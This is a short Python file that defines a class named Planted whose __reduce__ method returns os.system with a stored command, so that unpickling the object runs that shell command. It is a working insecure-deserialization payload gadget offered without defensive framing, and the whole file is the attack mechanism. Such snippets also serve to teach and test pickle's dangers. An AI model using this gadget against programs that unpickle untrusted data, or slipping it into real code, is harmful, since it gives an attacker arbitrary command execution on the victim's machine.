"""An object whose pickle runs a command where it is unpickled."""

import os


class Planted:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)
